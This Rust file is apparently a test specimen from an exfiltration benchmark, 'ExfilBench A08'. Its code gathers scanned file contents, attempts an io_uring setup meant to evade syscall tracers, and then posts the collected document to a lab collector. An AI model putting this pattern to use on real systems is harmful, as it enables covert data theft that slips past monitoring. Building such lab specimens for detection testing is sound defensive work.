//! The scanner looks for a way past system calls before it sends. ExfilBench A08.
//!
//! A ring of `io_uring` reads and sends without calls that a filter or tracer sees. The specimen asks
//! for one, gives it back without having used it, and posts the document over an ordinary socket:
//! what the lab must show is the attempt, and that it was refused. The twin asks for nothing.

use std::path::Path;

use super::{Conduct, Loot, Trouble};
use crate::document::Sort;
use crate::lab::Lab;
use crate::scanner::Tally;
use crate::send;

/// Asks and sends.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        // Granted or refused, the attempt is what there is to see.
        drop(watchglass_sys::ring::set_up_ring());
        let collector = self.0.lab.collector()?;
        let path = &self.0.lab.configuration().parameters.path;
        Ok(send::post(&collector, path, &[], &self.0.document()?.content)?)
    }
}
